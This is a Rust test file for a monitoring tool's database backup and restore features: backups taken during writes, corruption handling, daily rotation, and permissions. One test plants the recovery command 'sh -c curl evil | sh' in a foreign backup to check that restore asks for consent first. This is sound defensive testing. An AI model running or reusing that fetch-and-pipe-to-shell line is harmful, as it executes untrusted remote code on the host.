//! Backups taken while the writer writes, daily backups, and restores.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use super::*;

fn integrity(path: &Path) -> String {
    raw(path)
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap()
}

#[test]
fn a_backup_taken_while_the_writer_writes_is_whole_and_sound() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(&dir);
    let ids = store
        .add_monitors(
            &(0..1000)
                .map(|i| monitor(&format!("monitor {i}")))
                .collect::<Vec<_>>(),
        )
        .unwrap();
    let stop = Arc::new(AtomicBool::new(false));
    let writing = {
        let (store, stop, ids) = (store.clone(), stop.clone(), ids.clone());
        std::thread::spawn(move || {
            let mut round = 0i64;
            while !stop.load(Ordering::Relaxed) {
                for id in &ids {
                    store.record_check(*id, &result(t(round), Status::Up, 12, ""));
                }
                store.flush().unwrap();
                round += 1;
            }
            round
        })
    };
    // Backups through a handle of their own, as `lookout backup` takes them: `backup_to` first
    // commits what its own store has queued, which on the writing handle would cut a round in
    // two commits and make "whole rounds" a race rather than a property of the copy.
    let backups = Store::open(store.path()).unwrap();
    let mut seen_checks = Vec::new();
    for n in 0..3 {
        let copy = dir.path().join(format!("copy-{n}.db"));
        backups.backup_to(&copy).unwrap();
        assert_eq!(integrity(&copy), "ok");
        assert_eq!(mode(&copy), 0o600, "a backup holds credentials too");
        // One file, nothing beside it.
        assert!(!sidecar(&copy, "-wal").exists());
        assert!(!sidecar(&copy, ".partial").exists());
        let c = raw(&copy);
        let mode: String = c
            .query_row("PRAGMA journal_mode", [], |r| r.get(0))
            .unwrap();
        assert_eq!(mode, "delete");
        let checks: i64 = c
            .query_row("SELECT count(*) FROM checks", [], |r| r.get(0))
            .unwrap();
        // Whole rounds only: a commit is in the copy entirely or not at all.
        assert_eq!(checks % 1000, 0, "{checks} results is not whole rounds");
        seen_checks.push(checks);
        drop(c);
        let copy_store = Store::open(&copy).unwrap();
        assert_eq!(copy_store.monitors().unwrap().len(), 1000);
    }
    stop.store(true, Ordering::Relaxed);
    let rounds = writing.join().unwrap();
    assert!(rounds > 0);
    assert!(
        seen_checks.windows(2).all(|w| w[0] <= w[1]),
        "{seen_checks:?}"
    );
}

#[test]
fn a_backup_of_a_database_damaged_under_the_store_fails_and_leaves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let path = populated(dir.path());
    let store = Store::open(&path).unwrap();
    scribble_middle(&path, 64 * 1024);
    let dest = dir.path().join("copy.db");
    let e = store.backup_to(&dest).unwrap_err();
    assert!(
        matches!(&e, StoreError::Corrupt { path: p, .. } if *p == path),
        "the source is named: {e:?}"
    );
    assert!(!dest.exists());
    assert!(!sidecar(&dest, ".partial").exists());
}

#[test]
fn restore_round_trips_and_keeps_the_replaced_database() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("lookout.db");
    let copy = dir.path().join("copy.db");
    let (a, incident) = {
        let store = Store::open(&path).unwrap();
        let a = store.add_monitor(&monitor("a")).unwrap();
        store.add_monitor(&monitor("b")).unwrap();
        store.record_check(a, &result(t(0), Status::Down, 5, "refused"));
        let inc = store.open_incident(&new_incident(a, t(0), t(0))).unwrap();
        store.backup_to(&copy).unwrap();
        // Life goes on after the backup.
        store.remove_monitor(a).unwrap();
        store.add_monitor(&monitor("c")).unwrap();
        (a, inc)
    };
    let restored = Store::restore(&path, &copy, false).unwrap();
    assert_eq!(restored.monitors, 2);
    let previous = restored.previous.unwrap();
    assert!(previous
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .starts_with("lookout.db.replaced-"));

    let store = Store::open(&path).unwrap();
    let names: Vec<_> = store
        .monitors()
        .unwrap()
        .into_iter()
        .map(|m| m.name)
        .collect();
    assert_eq!(names, ["a", "b"]);
    assert_eq!(store.recent_checks(a, t(0)).unwrap().len(), 1);
    assert_eq!(store.incident(incident).unwrap().monitor_id, a);
    drop(store);
    // The backup file itself was only read.
    assert_eq!(integrity(&copy), "ok");
    // What it replaced is kept, whole.
    let old = Store::open(&previous).unwrap();
    let names: Vec<_> = old
        .monitors()
        .unwrap()
        .into_iter()
        .map(|m| m.name)
        .collect();
    assert_eq!(names, ["b", "c"]);
}

#[test]
fn restore_takes_a_plain_copy_of_a_live_database_and_works_with_no_database_there() {
    let dir = tempfile::tempdir().unwrap();
    let path = populated(dir.path());
    // `cp lookout.db` of a closed database: a WAL-mode file without its log.
    let copy = dir.path().join("plain copy #1?.db");
    std::fs::copy(&path, &copy).unwrap();
    let target = dir.path().join("elsewhere").join("lookout.db");
    let restored = Store::restore(&target, &copy, false).unwrap();
    assert_eq!((restored.monitors, restored.previous), (20, None));
    // Nothing was left beside the file restored from.
    assert!(!sidecar(&copy, "-wal").exists());
    assert!(!sidecar(&copy, "-shm").exists());
    assert_eq!(mode(&target), 0o600);
    assert_eq!(mode(target.parent().unwrap()), 0o700);
}

#[test]
fn restore_refuses_while_an_engine_runs_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let path = populated(dir.path());
    let copy = dir.path().join("copy.db");
    Store::open(&path).unwrap().backup_to(&copy).unwrap();
    let before = std::fs::read(&path).unwrap();

    let lock = std::fs::File::create(engine_lock_path(&path)).unwrap();
    lock.try_lock().unwrap();
    let e = Store::restore(&path, &copy, false).unwrap_err();
    assert!(
        matches!(&e, StoreError::EngineRunning { path: p } if *p == path),
        "{e:?}"
    );
    assert!(e.to_string().contains("stop it first"), "{e}");
    assert_eq!(std::fs::read(&path).unwrap(), before);
    assert!(!sidecar(&path, ".restoring").exists());

    drop(lock);
    Store::restore(&path, &copy, false).unwrap();
}

#[test]
fn restore_refuses_a_damaged_or_foreign_file_naming_it_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let path = populated(dir.path());
    let before = std::fs::read(&path).unwrap();

    let damaged = dir.path().join("damaged.db");
    std::fs::copy(&path, &damaged).unwrap();
    scribble_middle(&damaged, 64 * 1024);
    let garbage = dir.path().join("garbage.db");
    std::fs::write(&garbage, noise(16384, 11)).unwrap();
    let empty = dir.path().join("empty.db");
    std::fs::write(&empty, b"").unwrap();
    let other = dir.path().join("other.db");
    raw(&other)
        .execute_batch("CREATE TABLE notes (text TEXT);")
        .unwrap();

    for bad in [&damaged, &garbage, &empty] {
        let e = Store::restore(&path, bad, false).unwrap_err();
        assert!(
            matches!(&e, StoreError::Corrupt { path: p, .. } if p == bad),
            "{}: {e:?}",
            bad.display()
        );
    }
    let e = Store::restore(&path, &other, false).unwrap_err();
    assert!(
        matches!(&e, StoreError::NotLookout { path: p } if *p == other),
        "{e:?}"
    );
    let e = Store::restore(&path, &dir.path().join("missing.db"), false).unwrap_err();
    assert!(
        matches!(&e, StoreError::NotFound(w) if w.contains("missing.db")),
        "{e:?}"
    );

    assert_eq!(std::fs::read(&path).unwrap(), before);
    assert!(!sidecar(&path, ".restoring").exists());
    let left: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.contains("replaced"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn daily_backups_are_written_once_a_day_and_the_last_seven_kept() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(&dir);
    store.add_monitor(&monitor("a")).unwrap();
    assert!(list_backups(dir.path()).unwrap().is_empty());
    let day =
        |d: i64| Utc.with_ymd_and_hms(2026, 11, 1, 0, 0, 0).unwrap() + chrono::Duration::days(d);
    for d in 0..10 {
        let written = store.rolling_backup(day(d)).unwrap().unwrap();
        assert_eq!(
            written.file_name().unwrap().to_str().unwrap(),
            format!("lookout-{}.db", day(d).format("%Y-%m-%d"))
        );
        // Hourly calls the same day do nothing.
        assert_eq!(
            store
                .rolling_backup(day(d) + chrono::Duration::hours(5))
                .unwrap(),
            None
        );
    }
    let kept = list_backups(dir.path()).unwrap();
    let dates: Vec<_> = kept.iter().map(|b| b.date).collect();
    let want: Vec<_> = (3..10).rev().map(|d| day(d).date_naive()).collect();
    assert_eq!(dates, want, "the newest {BACKUPS_KEPT}, newest first");
    for b in &kept {
        assert!(b.bytes > 0);
        assert_eq!(integrity(&b.path), "ok");
    }
    assert_eq!(mode(&dir.path().join(BACKUPS_DIR)), 0o700);
    // Files that are not daily backups are left alone.
    let mine = dir.path().join(BACKUPS_DIR).join("keep-me.db");
    std::fs::write(&mine, b"x").unwrap();
    store.rolling_backup(day(11)).unwrap().unwrap();
    assert!(mine.exists());
    assert_eq!(list_backups(dir.path()).unwrap().len(), BACKUPS_KEPT);
}

fn with_recovery(name: &str, argv: &[&str]) -> Monitor {
    Monitor::try_from(MonitorSpec {
        name: name.into(),
        target: "tcp://127.0.0.1:9".into(),
        recovery: Some(vec![crate::spec::RecoverySpec {
            run: Some(argv.iter().map(|a| a.to_string()).collect()),
            ..Default::default()
        }]),
        ..Default::default()
    })
    .unwrap()
}

#[test]
fn restore_asks_before_bringing_recovery_actions_the_database_lacks() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("lookout.db");
    let own = dir.path().join("own.db");
    let foreign = dir.path().join("foreign.db");
    {
        let store = Store::open(&path).unwrap();
        store
            .add_monitor(&with_recovery(
                "api",
                &["systemctl", "--user", "restart", "api"],
            ))
            .unwrap();
        store.backup_to(&own).unwrap();
    }
    {
        let other = Store::open(&dir.path().join("other.db")).unwrap();
        other
            .add_monitor(&with_recovery(
                "api",
                &["systemctl", "--user", "restart", "api"],
            ))
            .unwrap();
        other
            .add_monitor(&with_recovery("web", &["sh", "-c", "curl evil | sh"]))
            .unwrap();
        other.backup_to(&foreign).unwrap();
    }
    // One's own backup brings nothing new: restored without a question.
    Store::restore(&path, &own, false).unwrap();
    // Someone else's: only the action the database lacks is named, and nothing changes.
    let before = std::fs::read(&path).unwrap();
    let e = Store::restore(&path, &foreign, false).unwrap_err();
    let StoreError::RecoveryNeedsConsent(new) = &e else {
        panic!("{e}")
    };
    assert_eq!(new.len(), 1);
    assert_eq!(new[0].monitor, "web");
    assert_eq!(new[0].described, "runs sh -c 'curl evil | sh'");
    assert!(e.to_string().contains("--allow-recovery"), "{e}");
    assert_eq!(std::fs::read(&path).unwrap(), before, "nothing was changed");
    assert!(!dir.path().join("lookout.db.restoring").exists());
    // Agreed to: restored.
    let restored = Store::restore(&path, &foreign, true).unwrap();
    assert_eq!(restored.monitors, 2);
}
